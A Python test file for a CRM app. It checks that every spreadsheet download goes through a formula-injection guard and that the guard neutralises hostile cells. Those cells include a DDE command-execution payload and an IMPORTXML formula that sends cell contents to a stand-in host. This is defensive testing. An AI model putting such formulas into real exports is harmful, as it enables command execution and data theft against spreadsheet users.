"""Every spreadsheet the app hands out goes through crm_core.export's formula guard.

tests/test_export.py checks the guard itself; this checks nobody bypasses it:
each CSV/Excel ``download_button`` in the pages builds its data with
``safe_csv_bytes`` or ``safe_xlsx_bytes``, and the guard still holds for the
hostile cells of the hostile-input run.
"""
from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import polars as pl

from crm_core.export import GUARD, safe_csv_bytes

ROOT = Path(__file__).resolve().parent.parent
SAFE = ("safe_csv_bytes", "safe_xlsx_bytes")


def _download_calls() -> list[tuple[str, ast.Call]]:
    calls = []
    for folder in ("ui", "app_pages"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", "")) == "download_button":
                    calls.append((f"{path.relative_to(ROOT)}:{node.lineno}", node))
    return calls


def _argument(call: ast.Call, name: str, position: int) -> ast.expr | None:
    keyword = next((k.value for k in call.keywords if k.arg == name), None)
    return keyword if keyword is not None else (call.args[position] if len(call.args) > position else None)


def _guarding_functions() -> set[str]:
    """``safe_csv_bytes``, ``safe_xlsx_bytes`` and every function of the app that returns through them."""
    bodies = {}
    for folder in ("ui", "app_pages", "crm_core"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                    returned = [ast.unparse(r.value) for r in ast.walk(node) if isinstance(r, ast.Return) and r.value]
                    bodies.setdefault(node.name, []).append(returned)
    guarding = set(SAFE)
    while True:  # a helper of a helper counts too; every function of that name must return only guarded bytes
        more = {name for name, definitions in bodies.items()
                if all(returned and all(any(re.search(rf"\b{g}\(", value) for g in guarding) for value in returned)
                       for returned in definitions)}
        if more <= guarding:
            return guarding
        guarding |= more


def test_every_spreadsheet_download_is_guarded():
    guarding = _guarding_functions()
    spreadsheets = 0
    for where, call in _download_calls():
        mime = _argument(call, "mime", 3)
        mime_text = mime.value if isinstance(mime, ast.Constant) else ""
        if "csv" in mime_text or "spreadsheet" in mime_text:
            spreadsheets += 1
            data = ast.unparse(_argument(call, "data", 1))
            assert any(re.search(rf"\b{name}\b", data) for name in guarding), \
                f"{where}: spreadsheet data not built by {SAFE} (or a helper returning through them): {data}"
    assert spreadsheets >= 5  # the search found the downloads


def test_the_guard_holds_for_hostile_cells():
    hostile = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1", "\r=1",
               '=HYPERLINK("http://x","y")', "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
    rows = list(csv.reader(io.StringIO(safe_csv_bytes(pl.DataFrame({"id": hostile})).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [GUARD + value for value in hostile]
